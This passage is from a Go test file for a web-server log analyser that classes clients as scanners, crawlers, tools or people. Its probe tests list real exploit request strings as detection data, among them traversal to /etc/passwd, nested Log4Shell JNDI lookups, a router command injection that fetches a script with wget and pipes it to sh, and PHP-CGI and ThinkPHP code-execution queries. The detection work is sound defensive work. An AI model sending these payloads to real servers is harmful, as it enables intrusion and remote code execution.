package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/robowatch/robowatch/findings"
	"github.com/robowatch/robowatch/logparse"
)

func TestProbeOf(t *testing.T) {
	tests := []struct {
		path string
		want probe
	}{
		{"/.env", probeStrong},
		{"/.git/config", probeStrong},
		{"/phpMyAdmin/index.php", probeStrong},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", probeStrong},
		{"/index.php?page=../../../../etc/passwd", probeStrong},
		{"/wp-login.php", probeWeak},
		{"/cgi-bin/imagemap/countdown", probeWeak}, // NASA's 1995 site ran these
		{"/", probeNone},
		// Consoles and backdoors scanner templates ask every site for.
		{"/nacos", probeStrong},
		{"/nacos/v1/auth/users?pageNo=1&pageSize=9", probeStrong},
		{"/systembc/password.php", probeStrong},
		{"/nacosity-review", probeNone},
		{"/systembcx/", probeNone},
		// nginx merges slashes: //wp-includes/ is /wp-includes/.
		{"//wp-includes/wlwmanifest.xml", probeWeak},
		{"//.env", probeStrong},
		// WordPress's machine endpoints under any directory.
		{"/blog/wp-includes/wlwmanifest.xml", probeWeak},
		{"/news/wp-trackback.php", probeWeak},
		{"/wp/xmlrpc.php?rsd", probeWeak},
		{"/docs/xmlrpc-php-guide.html", probeNone},
		{"/password.php", probeNone}, // a site's own password page
		{"/blog/.environment-friendly-tips", probeNone},
		{"/envelope", probeNone},
		// Probes are whole segments or file names: a person's pages that
		// merely start like one are not.
		{"/shell", probeStrong},
		{"/shell.php", probeStrong},
		{"/shell?cmd=id", probeStrong},
		{"/sdk", probeStrong},
		{"/actuator/health", probeStrong},
		{"/phpmyadmin2/", probeStrong},
		{"/.env.local", probeStrong},
		{"/shellfish-recipes/", probeNone},
		{"/shell-scripting/intro.html", probeNone},
		{"/sdk/install.html", probeNone}, // a developer site's SDK pages
		{"/sdk-reference/api.html", probeNone},
		{"/actuators/linear.html", probeNone},
		{"/myadministration/", probeNone},
		{"/tutorials/linux/etc/passwd-explained.html", probeNone},
		{"/download.php?file=/etc/passwd", probeStrong},
		{"/view?f=/etc/passwd%00", probeStrong},
		{"/wp-config.php~", probeStrong},
		{"/wp-config.php_bak", probeStrong},
		{"/web.config.old", probeStrong},
		{"/view?f=/etc/passwd-", probeStrong},
		{"/sdk/vimServiceVersions.xml", probeStrong}, // VMware vCenter's, the /sdk scanners want
		{"/TP/public/index.php", probeStrong},        // ThinkPHP 5's RCE, as a honeypot logged it
		{"/thinkphp/html/public/index.php", probeStrong},
		{"/thinkphp-tutorial/", probeNone},
		{"/tp/index.html", probeNone},
		// Dotfiles in a directory, as scanners guess them (Daniloday/ubuntu
		// access.log.1, a site behind Cloudflare).
		{"/api/.env", probeStrong},
		{"/backend/.env", probeStrong},
		{"/core/.env.production", probeStrong},
		{"/app/.git/config", probeStrong},
		{"/blog/.envelope-art/", probeNone},
		{"/docs/.well-known/x", probeNone},
		// Traversal is a whole segment: Internet Explorer 8 asked for a CSS
		// font list as one URL (1geek0/weblog access.log).
		{"/font/roboto/Roboto-Thin.woff2%22)%20format(%22woff2%22),%20url(%22../font/roboto/Roboto-Thin.woff%22)", probeNone},
		{"/static/../../../../etc/hosts", probeStrong},
		{"/img/..%2f..%2fwin.ini", probeStrong},
		{"/x?f=....//....//etc/hosts", probeStrong},
		{"/x?f=..%2F..%2Fboot.ini", probeStrong},
		{"/notes/v1..2/", probeNone},
		// Log4Shell in the target, plain and encoded.
		{"/?x=${jndi:ldap://198.51.100.7:1389/a}", probeStrong},
		{"/$%7Bjndi:ldap://198.51.100.7/a%7D", probeStrong},
		{"/?q=%24%7BJNDI%3Aldap%3A%2F%2Fx%2Fa%7D", probeStrong},
		{"/docs/jndi-lookups.html", probeNone},
		{"/search?q=jndi:ldap", probeNone},
		// Percent-encoded probes, as the server decodes them.
		{"/%2eenv", probeStrong},
		{"/.%65nv", probeStrong},
		{"/%2e%67it/config", probeStrong},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", probeStrong},                // CVE-2021-41773 (Daniloday/ubuntu)
		{"/icons/.%%32%65/.%%32%65/apache2/icons/sphere1.png", probeStrong}, // CVE-2021-42013, decoded twice
		{"/caf%C3%A9/men%C3%BC%20du%20jour.html", probeNone},
		{"/files/report%202024.pdf", probeNone},
		{"/search?q=%2Eenvironment", probeNone},
		// Path tricks: nothing but slashes.
		{"///", probeStrong},
		{"////", probeStrong},
		{"//", probeNone},
		{"/blog//post", probeNone},
		// Log4Shell hidden by nesting, in the path or the query, plain or
		// encoded; a broken template's ${id} is none.
		{"/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}", probeStrong},
		{"/${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7/a}", probeStrong},
		{"/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.7%7D", probeStrong},
		{"/?v=${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://198.51.100.7/a}", probeStrong},
		{"/images/${id}.png", probeNone},
		{"/api/items?filter=${query}", probeNone},
		// Proxy checks and devices' pages, asked for by scanners only.
		{"/testproxy.php", probeStrong},
		{"/login.rsp", probeStrong},
		{"/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", probeStrong},
		{"/editBlackAndWhiteList", probeStrong},
		{"/onvif/device_service", probeStrong},
		{"/ISAPI/Security/userCheck", probeStrong},
		{"/restore.php", probeWeak},
		{"/restoreplan/", probeNone},
		// LuCI, bare and with TP-Link Archer's injection (CVE-2023-1389).
		{"/cgi-bin/luci", probeStrong},
		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2Fx%2Ft%7Csh%3B%60)", probeStrong},
		{"/cgi-bin/lucid.pl", probeWeak},
		// PHP code execution in the query, sent to any index.php:
		// ThinkPHP 5 and PHP-CGI's argument injection.
		{`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello`, probeStrong},
		{"/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", probeStrong},
		{"/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", probeStrong},
		{"/docs/php/call_user_func_array.html", probeNone},
		{"/search?q=function+reference", probeNone},
	}
	for _, tt := range tests {
		if got := probeOf(tt.path); got != tt.want {
			t.Errorf("probeOf(%q) = %d, want %d", tt.path, got, tt.want)
		}
	}
}

// TestScanners: who is a scanner, with or without a User-agent, and who
// is not: a crawler fetching robots.txt and the sitemap, a person logging
// into a WordPress site, a person whose browser also asks for the favicon.
func TestScanners(t *testing.T) {
	const oldChrome = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36"
	const googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	seq := func(ip, ua string, method string, paths []string, status int) []req {
		var out []req
		for i, p := range paths {
			out = append(out, req{ip: ip, ua: ua, sec: i, method: method, path: p, status: status})
		}
		return out
	}
	tests := []struct {
		name    string
		reqs    []req
		scanner bool
		kind    string
	}{
		{"env and git, no User-agent (CLF)", seq("192.0.2.1", "", "GET", []string{"/.env", "/.git/config"}, 404), true, findings.KindScanner},
		{"old Chrome: favicon, robots.txt, sitemap only", seq("192.0.2.2", oldChrome, "GET", []string{"/favicon.ico", "/robots.txt", "/sitemap.xml"}, 200), true, findings.KindScanner},
		{"wp-login spree on a site without WordPress", seq("192.0.2.3", "", "POST", []string{"/wp-login.php", "/wp-login.php", "/xmlrpc.php"}, 404), true, findings.KindScanner},
		{"CONNECT probe", seq("192.0.2.4", "", "CONNECT", []string{"www.example.com:443"}, 400), true, findings.KindScanner},
		// A scanner by name: kind scanner though its requests are pages
		// (sqlmap's injections go in the query); an HTTP tool is not one.
		{"sqlmap by name", seq("192.0.2.8", "sqlmap/1.7.2#stable (https://sqlmap.org)", "GET", []string{"/products/1?id=1%27", "/search?q=x"}, 200), false, findings.KindScanner},
		{"curl", seq("192.0.2.9", "curl/8.5.0", "GET", []string{"/"}, 200), false, "tool"},
		{"Googlebot: robots.txt and sitemap", seq("66.249.66.1", googlebot, "GET", []string{"/robots.txt", "/sitemap.xml"}, 200), false, "crawler"},
		{"a WordPress admin logging in", seq("203.0.113.5", oldChrome, "POST", []string{"/wp-login.php"}, 302), false, "browser"},
		{"an admin opening robots.txt in a browser (favicon comes along)", seq("203.0.113.7", oldChrome, "GET", []string{"/robots.txt", "/favicon.ico"}, 200), false, "browser"},
		{"a person: page, favicon, style", seq("203.0.113.6", oldChrome, "GET", []string{"/", "/favicon.ico", "/site.css"}, 200), false, "browser"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(Config{}, tt.reqs)
			v := verdictOf(t, res, tt.reqs[0].ip, tt.reqs[0].ua)
			if got := slices.Contains(v.Reasons, findings.ReasonScanner); got != tt.scanner || v.Kind != tt.kind {
				t.Errorf("scanner %v, kind %q (reasons %v, details %q); want %v, %q", got, v.Kind, v.Reasons, v.Details, tt.scanner, tt.kind)
			}
			if tt.scanner && !v.Robot {
				t.Errorf("a scanner that is no robot: %+v", v)
			}
		})
	}
}

// TestJunkConnections: clients that never sent an HTTP request (TLS
// handshakes on the plain port, empty request lines) are counted per
// address and listed as kind junk, not as a robot each; one that also sent
// real requests is judged on them.
func TestJunkConnections(t *testing.T) {
	d := New(Config{})
	t0 := time.Date(2024, 5, 6, 9, 0, 0, 0, time.UTC)
	for i := range 50 {
		d.Add(&logparse.Record{Client: fmt.Sprintf("198.51.100.%d", i%20), Request: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", Status: 400, Bytes: 0, Time: t0.Add(time.Duration(i) * time.Second)})
	}
	d.Add(&logparse.Record{Client: "198.51.100.200", Request: "-", Status: 408, Time: t0})
	d.Add(&logparse.Record{Client: "203.0.113.9", Request: "\x16\x03\x01", Status: 400, Time: t0})
	d.Add(&logparse.Record{Client: "203.0.113.9", Request: "GET /.env HTTP/1.1", Method: "GET", Target: "/.env", Protocol: "HTTP/1.1", Status: 404, Time: t0.Add(time.Second)})
	res := d.Result()
	if res.JunkConnections != 51 || res.JunkAddresses != 21 {
		t.Errorf("junk %d connections from %d addresses, want 51 from 21", res.JunkConnections, res.JunkAddresses)
	}
	if res.RobotCount != 1 || len(res.Robots) != 1 {
		t.Errorf("%d robots %v, want only the scanner that also probed", res.RobotCount, res.Robots)
	}
	if v := verdictOf(t, res, "198.51.100.3", ""); v.Kind != findings.KindJunk || v.Robot {
		t.Errorf("junk client: %+v", v)
	}
	if v := verdictOf(t, res, "203.0.113.9", ""); v.Kind != findings.KindScanner || !v.Robot {
		t.Errorf("junk and a probe: %+v", v)
	}
}

// TestProxyLogs: an absolute URL is a probe for an open proxy in an origin
// server's log, but Varnish's varnishncsa and a reverse-proxy Squid write
// every request so: where absolute URLs are most of the log, browsing is
// not scanning (every visitor of a Varnish site was a scanner in the block
// list). A CONNECT refused stays a probe either way; one tunnelled is
// browsing in a forward proxy's log, where most requests are so.
func TestProxyLogs(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	browse := func(ip, prefix string) []req {
		var out []req
		for i, p := range []string{"/", "/site.css", "/logo.png", "/about"} {
			out = append(out, req{ip: ip, ua: chrome, sec: i, path: prefix + p})
		}
		return out
	}
	tests := []struct {
		name    string
		reqs    []req
		ip      string
		scanner bool
	}{
		{"origin log: an absolute URL is a probe", append(browse("203.0.113.1", ""), req{ip: "192.0.2.9", ua: chrome, path: "http://proxy-judge.example/azenv.php"}), "192.0.2.9", true},
		{"origin log: the person is not", append(browse("203.0.113.1", ""), req{ip: "192.0.2.9", ua: chrome, path: "http://proxy-judge.example/azenv.php"}), "203.0.113.1", false},
		// The basjes log's form spammers write the site's own URLs whole,
		// with a Referer on that host: not a probe for an open proxy.
		{"origin log: an absolute URL of the Referer's host is not a probe", append(browse("203.0.113.1", ""),
			req{ip: "192.0.2.9", ua: chrome, path: "http://Howto.example.nl/join_form", referer: "http://howto.example.nl/"}), "192.0.2.9", false},
		{"origin log: one of another host than the Referer's is", append(browse("203.0.113.1", ""),
			req{ip: "192.0.2.9", ua: chrome, path: "http://proxy-judge.example/azenv.php", referer: "http://howto.example.nl/"}), "192.0.2.9", true},
		// HAProxy 2.1 and later log an HTTP/2 request as the absolute URL
		// its :scheme and :authority make: on a site most of whose
		// visitors speak HTTP/1.1, every HTTP/2 browser was a probe.
		{"origin log: an HTTP/2 request logged as an absolute URL is no probe", append(append(browse("203.0.113.1", ""), browse("203.0.113.3", "")...),
			req{ip: "192.0.2.9", ua: chrome, path: "https://www.example.com/", proto: "HTTP/2.0"},
			req{ip: "192.0.2.9", ua: chrome, path: "https://www.example.com/site.css", proto: "HTTP/2.0", sec: 1}), "192.0.2.9", false},
		{"origin log: nor an HTTP/3 one", append(browse("203.0.113.1", ""),
			req{ip: "192.0.2.9", ua: chrome, path: "https://www.example.com/", proto: "HTTP/3"}), "192.0.2.9", false},
		{"origin log: an HTTP/1.0 one is", append(browse("203.0.113.1", ""),
			req{ip: "192.0.2.9", ua: chrome, path: "http://proxy-judge.example/azenv.php", proto: "HTTP/1.0"}), "192.0.2.9", true},
		{"varnish log: browsing is not scanning", append(browse("203.0.113.1", "http://www.example.com"), browse("203.0.113.2", "http://www.example.com")...), "203.0.113.1", false},
		{"varnish log: CONNECT still is", append(browse("203.0.113.1", "http://www.example.com"), req{ip: "192.0.2.9", ua: chrome, method: "CONNECT", path: "www.example.com:443", status: 400}), "192.0.2.9", true},
		// A forward proxy (Squid): browsers reach HTTPS sites by CONNECT,
		// tunnelled (200); plain HTTP by absolute URLs.
		{"forward proxy: a tunnel is browsing", []req{
			{ip: "203.0.113.1", ua: chrome, method: "CONNECT", path: "www.example.com:443", status: 200},
			{ip: "203.0.113.1", ua: chrome, method: "CONNECT", path: "cdn.example.net:443", status: 200, sec: 1},
			{ip: "203.0.113.2", ua: chrome, path: "http://www.example.org/", status: 200},
			{ip: "203.0.113.2", ua: chrome, method: "CONNECT", path: "www.example.org:443", status: 200, sec: 2},
		}, "203.0.113.1", false},
		{"origin log: CONNECT answered 200 is a probe", append(append(browse("203.0.113.1", ""), browse("203.0.113.3", "")...),
			req{ip: "192.0.2.9", ua: chrome, method: "CONNECT", path: "smtp.example.net:25", status: 200}), "192.0.2.9", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(Config{}, tt.reqs)
			v := verdictOf(t, res, tt.ip, chrome)
			if got := slices.Contains(v.Reasons, findings.ReasonScanner); got != tt.scanner {
				t.Errorf("scanner %v (reasons %v, details %q); want %v", got, v.Reasons, v.Details, tt.scanner)
			}
		})
	}
}

// TestIncidentWhileBrowsing: a rapid-fire incident by a browser that loads
// the pages' assets and sends Referers (people behind one carrier's
// address, many tabs opened at once) weighs half: it is listed, but does
// not make a robot alone (it put a mobile carrier's address in the block
// list). The same pace without assets does.
func TestIncidentWhileBrowsing(t *testing.T) {
	const iphone = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"
	tabs := func(ip string, assets bool) []req {
		var out []req
		for i := range 40 {
			sec := i / 4
			page := fmt.Sprintf("/forum/thread-%d", i)
			out = append(out, req{ip: ip, ua: iphone, sec: sec, path: page, referer: "https://www.example.com/forum/latest"})
			if assets {
				for _, a := range []string{"/static/forum.css", "/static/forum.js"} {
					out = append(out, req{ip: ip, ua: iphone, sec: sec, path: a, referer: "https://www.example.com" + page})
				}
			}
		}
		return out
	}
	tests := []struct {
		name   string
		assets bool
		robot  bool
	}{
		{"browsing: assets and Referers", true, false},
		{"pages only", false, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(Config{}, tabs("198.51.100.7", tt.assets))
			v := verdictOf(t, res, "198.51.100.7", iphone)
			if v.Incidents == 0 || v.Robot != tt.robot {
				t.Errorf("incidents %d, robot %v (score %d, %q); want an incident and robot %v", v.Incidents, v.Robot, v.Score, v.Details, tt.robot)
			}
		})
	}
}

// TestIncidentWhileBrowsingCommonLog: in Common Log Format lines (no
// User-agent, no Referer) the assets a page pulls in count against the
// rate threshold, so the people behind one busy address (tab after tab,
// each page with its assets) made an incident; with a browser's share of
// assets it weighs half there too, as it does for a browser that sends
// Referers, and the pace alone makes no robot. Pages alone, too few
// assets, or the same pace with anything else a robot does, still make
// one; and a combined line that could show a Referer and shows none gets
// nothing from it.
func TestIncidentWhileBrowsingCommonLog(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	// tabs: 40 pages, 4 a second, each with perPage assets (0: none;
	// negative: one asset every -perPage pages); ua "" writes CLF lines.
	tabs := func(ip, ua string, perPage int) []req {
		var out []req
		for i := range 40 {
			sec := i / 4
			out = append(out, req{ip: ip, ua: ua, sec: sec, path: fmt.Sprintf("/forum/thread-%d", i), clf: ua == ""})
			n := perPage
			if perPage < 0 && i%-perPage == 0 {
				n = 1
			}
			for k := range max(n, 0) {
				out = append(out, req{ip: ip, ua: ua, sec: sec, path: fmt.Sprintf("/static/img-%d-%d.png", i, k), clf: ua == ""})
			}
		}
		return out
	}
	tests := []struct {
		name  string
		ua    string // "" for CLF lines
		reqs  []req
		robot bool
	}{
		{"CLF: pages with their assets", "", tabs("198.51.100.20", "", 3), false},
		{"CLF: one asset per four pages", "", tabs("198.51.100.21", "", -4), false},
		{"CLF: pages only", "", tabs("198.51.100.22", "", 0), true},
		{"CLF: one asset per ten pages", "", tabs("198.51.100.23", "", -10), true},
		{"CLF: pages with their assets, and robots.txt", "", append(tabs("198.51.100.24", "", 3),
			req{ip: "198.51.100.24", sec: 11, path: "/robots.txt", clf: true}), true},
		{"combined: a browser with assets and never a Referer", chrome, tabs("198.51.100.25", chrome, 3), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ip := tt.reqs[0].ip
			v := verdictOf(t, run(Config{}, tt.reqs), ip, tt.ua)
			if v.Incidents == 0 || v.Robot != tt.robot {
				t.Errorf("incidents %d, robot %v (score %d, %q); want an incident and robot %v", v.Incidents, v.Robot, v.Score, v.Details, tt.robot)
			}
		})
	}
}

// TestIncidentWhileBrowsingWithoutRefererField: in lines that log the
// User-agent but no Referer (IIS 7 and 7.5 by default: a person signing in
// to an IIS portal, u_ex170706.log of
// ps-interactive/lab_monitoring-and-detection-log-ingestion on GitHub, its
// page and a dozen assets twice in ten seconds, was a rapid-fire robot),
// a browser with a browser's share of assets weighs half, as in Common Log
// Format lines; pages alone still make a robot, and so does the same
// browsing in lines that could show a Referer and show none.
func TestIncidentWhileBrowsingWithoutRefererField(t *testing.T) {
	const firefox = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
	// tabs: 40 pages, 4 a second, each with perPage assets.
	tabs := func(ip string, perPage int, noRef bool) []req {
		var out []req
		for i := range 40 {
			sec := i / 4
			out = append(out, req{ip: ip, ua: firefox, sec: sec, path: fmt.Sprintf("/portal/page-%d.aspx", i), noRef: noRef})
			for k := range perPage {
				out = append(out, req{ip: ip, ua: firefox, sec: sec, path: fmt.Sprintf("/portal/images/img-%d-%d.gif", i, k), noRef: noRef})
			}
		}
		return out
	}
	tests := []struct {
		name  string
		reqs  []req
		robot bool
	}{
		{"no Referer field: pages with their assets", tabs("198.51.100.30", 3, true), false},
		{"no Referer field: pages only", tabs("198.51.100.31", 0, true), true},
		{"a Referer field, never a Referer", tabs("198.51.100.32", 3, false), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ip := tt.reqs[0].ip
			v := verdictOf(t, run(Config{}, tt.reqs), ip, firefox)
			if v.Incidents == 0 || v.Robot != tt.robot {
				t.Errorf("incidents %d, robot %v (score %d, %q); want an incident and robot %v", v.Incidents, v.Robot, v.Score, v.Details, tt.robot)
			}
		})
	}
}

// TestChainedWalker: a robot that walks links fast, each request's
// Referer the page before, with no assets: each page is a page (the
// "part of the page view" allowance took every other one for a
// subrequest, halving its pages and its pace), so it crosses the rate
// threshold and is a robot. A gallery of extension-less images a page
// pulls in stays part of its page view.
func TestChainedWalker(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	var walk []req
	ref := ""
	for i := range 300 {
		page := fmt.Sprintf("/wiki/article-%d", i)
		walk = append(walk, req{ip: "203.0.113.41", ua: chrome, sec: i * 2 / 3, path: page, referer: ref})
		ref = "https://www.example.com" + page
	}
	res := run(Config{}, walk)
	v := verdictOf(t, res, "203.0.113.41", chrome)
	// The last link followed counts once something came from it: 299.
	if v.Pages < 299 || v.Incidents == 0 || !v.Robot {
		t.Errorf("walker: %d pages, %d incidents, robot %v (%q); want 299+ pages, an incident, a robot", v.Pages, v.Incidents, v.Robot, v.Details)
	}
	gallery := []req{{ip: "203.0.113.50", ua: chrome, sec: 0, path: "/gallery", referer: "https://www.example.com/"}}
	for i := range 40 {
		gallery = append(gallery, req{ip: "203.0.113.50", ua: chrome, sec: i / 20, path: fmt.Sprintf("/image/%d", i), referer: "https://www.example.com/gallery"})
	}
	gallery = append(gallery, req{ip: "203.0.113.50", ua: chrome, sec: 2, path: "/static/site.css", referer: "https://www.example.com/gallery"})
	res = run(Config{}, gallery)
	if v := verdictOf(t, res, "203.0.113.50", chrome); v.Pages != 1 || v.Incidents != 0 || v.Robot {
		t.Errorf("gallery: %d pages, %d incidents, robot %v (%q); want 1 page, no incident, no robot", v.Pages, v.Incidents, v.Robot, v.Details)
	}
}

// TestPageAskedWithinItsOwnView: a robot that sends the site's home page
// as the Referer of everything, and fetches the home page now and then,
// is not pulling in the parts of one page view: each fetch of the page
// renewed the view, and 75 requests a second passed as its parts (no
// page, no rate hit, no incident). A person whose pages pull in
// extension-less parts, and who comes back to a page later, keeps the
// allowance.
func TestPageAskedWithinItsOwnView(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	const home = "https://www.example.com/"
	// every: the home page is one request in every; 0: never fetched.
	robot := func(ip string, every int) []req {
		var out []req
		for i := range 300 {
			p := fmt.Sprintf("/products/%d", i)
			if every > 0 && i%every == 0 {
				p = "/"
			}
			out = append(out, req{ip: ip, ua: chrome, sec: i / 75, path: p, referer: home})
		}
		return out
	}
	// A person on a gallery of 40 extension-less images, back on the
	// same gallery from another page a while later, twice.
	var person []req
	for visit := range 3 {
		s := visit * 40
		person = append(person, req{ip: "203.0.113.60", ua: chrome, sec: s, path: "/gallery", referer: home + "news"},
			req{ip: "203.0.113.60", ua: chrome, sec: s, path: "/static/site.css", referer: home + "gallery"})
		for i := range 40 {
			person = append(person, req{ip: "203.0.113.60", ua: chrome, sec: s + i/20, path: fmt.Sprintf("/image/%d", i), referer: home + "gallery"})
		}
		person = append(person, req{ip: "203.0.113.60", ua: chrome, sec: s + 20, path: "/news", referer: home + "gallery"},
			req{ip: "203.0.113.60", ua: chrome, sec: s + 20, path: "/static/news.css", referer: home + "news"})
	}
	tests := []struct {
		name      string
		ip        string
		reqs      []req
		incidents bool
		robot     bool
	}{
		{"fixed Referer, its page fetched every 10th request", "203.0.113.70", robot("203.0.113.70", 10), true, true},
		{"fixed Referer, its page fetched every 30th request", "203.0.113.71", robot("203.0.113.71", 30), true, true},
		{"fixed Referer, its page fetched once", "203.0.113.72", robot("203.0.113.72", 300), true, true},
		{"fixed Referer, its page never fetched", "203.0.113.73", robot("203.0.113.73", 0), true, true},
		{"a person back on a gallery later", "203.0.113.60", person, false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := verdictOf(t, run(Config{}, tt.reqs), tt.ip, chrome)
			if (v.Incidents > 0) != tt.incidents || v.Robot != tt.robot {
				t.Errorf("%d pages, %d incidents, robot %v (%q); want incidents %v, robot %v",
					v.Pages, v.Incidents, v.Robot, v.Details, tt.incidents, tt.robot)
			}
		})
	}
}

// TestBrokenAssets: a person on a site whose images 404 is not "mostly
// errors": a failed asset a page pulled in (with the page as Referer) is
// the site's broken link. A client whose own requests fail is.
func TestBrokenAssets(t *testing.T) {
	const chrome109 = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36"
	var person []req
	for i := range 5 {
		page := fmt.Sprintf("/news/%d", i)
		person = append(person, req{ip: "10.23.23.23", ua: chrome109, sec: i * 30, path: page, referer: "https://www.example.com/"})
		for k := range 3 {
			person = append(person, req{ip: "10.23.23.23", ua: chrome109, sec: i*30 + 1, path: fmt.Sprintf("/img/%d-%d.jpg", i, k), status: 404, referer: "https://www.example.com" + page})
		}
	}
	v := verdictOf(t, run(Config{}, person), "10.23.23.23", chrome109)
	if slices.Contains(v.Reasons, findings.ReasonBehaviour) || v.Robot {
		t.Errorf("a person on a site with broken images: robot %v, %q", v.Robot, v.Details)
	}
	var spree []req
	for i := range 20 {
		spree = append(spree, req{ip: "10.24.24.24", ua: chrome109, sec: i, path: fmt.Sprintf("/old-page-%d.html", i), status: 404})
	}
	if v := verdictOf(t, run(Config{}, spree), "10.24.24.24", chrome109); !slices.Contains(v.Reasons, findings.ReasonBehaviour) {
		t.Errorf("a 404 spree: reasons %v, want behaviour (mostly errors)", v.Reasons)
	}
}

// TestFewAssetsFewReferers: one stylesheet fetched once, or a Referer on
// the first request only, does not buy a page-only client a clean record
// (both scored 0 or 50); a person whose browser cached the assets after
// the first pages, and follows links, stays a person.
func TestFewAssetsFewReferers(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	scraper := []req{{ip: "203.0.113.13", ua: chrome, sec: 0, path: "/site.css", referer: "https://www.example.com/"}}
	for i := range 200 {
		scraper = append(scraper, req{ip: "203.0.113.13", ua: chrome, sec: 1 + i*10, path: fmt.Sprintf("/item/%d", i)})
	}
	var person []req
	ref := "https://www.google.com/"
	for i := range 40 {
		page := fmt.Sprintf("/docs/page-%d", i)
		person = append(person, req{ip: "10.1.1.1", ua: chrome, sec: i * 40, path: page, referer: ref})
		if i < 3 { // cached after the first pages
			for _, a := range []string{"/site.css", "/app.js"} {
				person = append(person, req{ip: "10.1.1.1", ua: chrome, sec: i*40 + 1, path: a, referer: "https://www.example.com" + page})
			}
		}
		ref = "https://www.example.com" + page
	}
	res := run(Config{}, append(scraper, person...))
	if v := verdictOf(t, res, "203.0.113.13", chrome); !v.Robot {
		t.Errorf("one stylesheet, no Referers, 200 pages: score %d (%q), want a robot", v.Score, v.Details)
	}
	if v := verdictOf(t, res, "10.1.1.1", chrome); v.Robot {
		t.Errorf("a person with cached assets: a robot (%q)", v.Details)
	}
}

// TestIncidentFewAssets: a scraper with a browser's name, a made-up
// Referer and one image per ten pages does not get the browsing discount:
// its incident is a robot's.
func TestIncidentFewAssets(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	var reqs []req
	for i := range 300 {
		reqs = append(reqs, req{ip: "203.0.113.90", ua: chrome, sec: i / 10, path: fmt.Sprintf("/p/%d", i), referer: "https://www.example.com/"})
		if i%10 == 0 {
			reqs = append(reqs, req{ip: "203.0.113.90", ua: chrome, sec: i / 10, path: fmt.Sprintf("/img/%d.jpg", i), referer: "https://www.example.com/"})
		}
	}
	if v := verdictOf(t, run(Config{}, reqs), "203.0.113.90", chrome); !v.Robot || v.Incidents == 0 {
		t.Errorf("10 pages a second, an image per 10: robot %v, incidents %d (%q)", v.Robot, v.Incidents, v.Details)
	}
}

// TestBrokenAssetsMadeUpReferer: the broken-asset allowance is for the
// page the client viewed; a robot requesting asset URLs that 404, with a
// fixed Referer of a page it never fetched, is "mostly errors".
func TestBrokenAssetsMadeUpReferer(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
	var reqs []req
	for i := range 20 {
		reqs = append(reqs, req{ip: "203.0.113.77", ua: chrome, sec: i, path: fmt.Sprintf("/backup/site-%d.zip.js", i), status: 404, referer: "https://www.example.com/"})
	}
	if v := verdictOf(t, run(Config{}, reqs), "203.0.113.77", chrome); !slices.Contains(v.Reasons, findings.ReasonBehaviour) {
		t.Errorf("20 asset 404s under a made-up Referer: reasons %v, want behaviour (mostly errors)", v.Reasons)
	}
}

func TestSameHost(t *testing.T) {
	tests := []struct {
		target, referer string
		want            bool
	}{
		{"http://www.example.com/a", "https://WWW.example.com/", true},
		{"http://www.example.com", "http://www.example.com?x", true},
		{"http://www.example.com:8080/a", "http://www.example.com/", false},
		{"http://user@www.example.com/a", "http://www.example.com/b", true},
		{"http://proxy-judge.example/azenv.php", "http://www.example.com/", false},
		{"http://www.example.com/a", "-", false},
		{"http://www.example.com/a", "", false},
		{"/a", "/a", false},
	}
	for _, tt := range tests {
		if got := sameHost(tt.target, tt.referer); got != tt.want {
